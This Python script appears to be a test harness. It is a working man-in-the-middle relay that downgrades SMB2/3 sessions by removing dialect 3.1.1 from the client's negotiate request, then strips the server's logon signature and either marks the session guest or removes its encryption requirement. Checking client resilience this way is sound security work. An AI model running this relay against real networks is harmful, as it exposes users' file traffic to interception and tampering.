#!/usr/bin/python3
"""A man in the middle between an SMB2/3 client and a real server.

  smb2_tamper_relay.py ADDRESS SERVER MODE PIDFILE [SECONDS]

Accepts connections on ADDRESS, TCP port 445, and relays each to SERVER's
port 445, message by message (the 4-byte framing of MS-SMB2 2.1), changing
what MODE says and nothing else:

  none   nothing: a relay that passes every byte through
  guest  3.1.1 taken out of the client's NEGOTIATE (the server answers an
         older dialect, whose final logon answer is not covered by a
         preauthentication hash); the logon passes through, and its final
         SESSION_SETUP answer is marked guest (IS_GUEST), its signature
         removed (SIGNED cleared, the 16 bytes zeroed)
  clear  3.1.1 taken out as above; the final SESSION_SETUP answer loses its
         signature and ENCRYPT_DATA

Writes PIDFILE once it listens, logs to standard error each change and each
request that the client sends in plain text after the changed logon answer
(with or without a signature), and ends by itself after SECONDS (default
120).
"""

import os
import socket
import socketserver
import struct
import sys
import threading
import time

MODES = ("none", "guest", "clear")
NEGOTIATE, SESSION_SETUP = 0, 1
SMB2_FLAGS_SIGNED = 0x8
SESSION_FLAG_IS_GUEST, SESSION_FLAG_ENCRYPT_DATA = 0x1, 0x4
DIALECT_311 = 0x0311
HEADER = 64


def log(text):
    print("smb2_tamper_relay: " + text, file=sys.stderr, flush=True)


def receive(sock):
    """One framed message, or None at the end of the stream."""
    head = read_exactly(sock, 4)
    if head is None:
        return None
    return read_exactly(sock, int.from_bytes(head[1:], "big"))


def read_exactly(sock, n):
    data = b""
    while len(data) < n:
        chunk = sock.recv(n - len(data))
        if not chunk:
            return None
        data += chunk
    return data


def is_smb2(message, command):
    return (len(message) >= HEADER + 4 and message[:4] == b"\xfeSMB"
            and struct.unpack_from("<H", message, 12)[0] == command)


def without_311(request):
    """The NEGOTIATE request (MS-SMB2 2.2.3) as if the client had not offered
    3.1.1: the dialect left out and counted out, and the negotiate contexts,
    which only 3.1.1 reads, dropped with their offset and count (the field
    is ClientStartTime again, zero)."""
    count, = struct.unpack_from("<H", request, HEADER + 2)
    dialects = struct.unpack_from("<%dH" % count, request, HEADER + 36)
    kept = [d for d in dialects if d != DIALECT_311]
    if len(kept) == count:
        return request
    body = bytearray(request[HEADER:HEADER + 36])
    struct.pack_into("<H", body, 2, len(kept))
    body[28:36] = bytes(8)
    log("3.1.1 taken out of the negotiate request")
    return request[:HEADER] + bytes(body) + struct.pack("<%dH" % len(kept), *kept)


def tampered_logon_end(answer, mode):
    """The final SESSION_SETUP answer (status SUCCESS), unsigned, marked
    guest or no longer asking for encryption."""
    message = bytearray(answer)
    flags, = struct.unpack_from("<I", message, 16)
    struct.pack_into("<I", message, 16, flags & ~SMB2_FLAGS_SIGNED)
    message[48:64] = bytes(16)
    session_flags, = struct.unpack_from("<H", message, HEADER + 2)
    if mode == "guest":
        session_flags |= SESSION_FLAG_IS_GUEST
    else:
        session_flags &= ~SESSION_FLAG_ENCRYPT_DATA
    struct.pack_into("<H", message, HEADER + 2, session_flags)
    log("%s: the final logon answer (%s), session flags 0x%x -> 0x%x, signature removed"
        % (mode, "signed" if flags & SMB2_FLAGS_SIGNED else "unsigned",
           struct.unpack_from("<H", answer, HEADER + 2)[0], session_flags))
    return bytes(message)


def relay(source, sink, change):
    try:
        while True:
            message = receive(source)
            if message is None:
                break
            message = change(message)
            sink.sendall(len(message).to_bytes(4, "big") + message)
    except OSError:
        pass
    for s in (source, sink):
        try:
            s.shutdown(socket.SHUT_RDWR)
        except OSError:
            pass


class Handler(socketserver.BaseRequestHandler):
    def handle(self):
        mode = self.server.mode
        try:
            upstream = socket.create_connection((self.server.target, 445), timeout=10)
        except OSError as e:
            log("no connection to %s: %s" % (self.server.target, e))
            return
        upstream.settimeout(None)
        tampered = threading.Event()

        def from_client(message):
            if mode != "none" and is_smb2(message, NEGOTIATE):
                return without_311(message)
            if tampered.is_set() and message[:4] == b"\xfeSMB" and len(message) >= HEADER:
                signed = struct.unpack_from("<I", message, 16)[0] & SMB2_FLAGS_SIGNED
                log("after the logon: command %d sent in plain text, %s"
                    % (struct.unpack_from("<H", message, 12)[0],
                       "signed" if signed else "unsigned"))
            return message

        def from_server(message):
            if (mode != "none" and is_smb2(message, SESSION_SETUP)
                    and struct.unpack_from("<I", message, 8)[0] == 0):
                message = tampered_logon_end(message, mode)
                tampered.set()
            return message

        back = threading.Thread(target=relay, args=(upstream, self.request, from_server),
                                daemon=True)
        back.start()
        relay(self.request, upstream, from_client)
        back.join()
        upstream.close()


class Server(socketserver.ThreadingTCPServer):
    allow_reuse_address = True
    daemon_threads = True


def main():
    address, target, mode, pidfile = sys.argv[1:5]
    seconds = float(sys.argv[5]) if len(sys.argv) > 5 else 120.0
    if mode not in MODES:
        sys.exit("smb2_tamper_relay: unknown mode %s" % mode)
    server = Server((address, 445), Handler)
    server.mode, server.target = mode, target
    with open(pidfile, "w") as f:
        f.write("%d\n" % os.getpid())
    threading.Thread(target=server.serve_forever, daemon=True).start()
    time.sleep(seconds)
    log("time limit reached")


if __name__ == "__main__":
    main()
